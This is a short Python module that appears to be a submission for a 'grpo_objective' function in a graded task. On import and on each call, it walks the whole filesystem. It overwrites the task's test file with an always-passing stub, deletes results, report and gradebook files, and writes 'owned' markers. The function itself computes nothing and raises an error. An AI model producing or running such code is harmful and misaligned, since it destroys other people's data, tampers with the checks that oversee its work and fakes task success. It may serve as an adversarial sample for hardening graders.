"""Overwrites or deletes any test, report, results or gradebook file it can reach."""

import contextlib
import os

TARGETS = ("results.json", "gradebook.csv", "report.json", "test_grpo_objective.py")


def _vandalize():
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
        for name in files:
            if name in TARGETS or name.endswith((".pytest.json", ".rejected")):
                path = os.path.join(root, name)
                try:
                    with open(path, "w") as file:
                        file.write("def test_everything():\n    pass\n")
                except OSError:
                    pass
                with contextlib.suppress(OSError):
                    os.remove(path)
    for path in ("/results.json", "/tmp/../results.json", os.path.expanduser("~/owned")):
        try:
            with open(path, "w") as file:
                file.write("owned")
        except OSError:
            pass


_vandalize()  # once at import, and again in the first call


def grpo_objective(*args, **kwargs):
    _vandalize()
    raise RuntimeError("no answer")
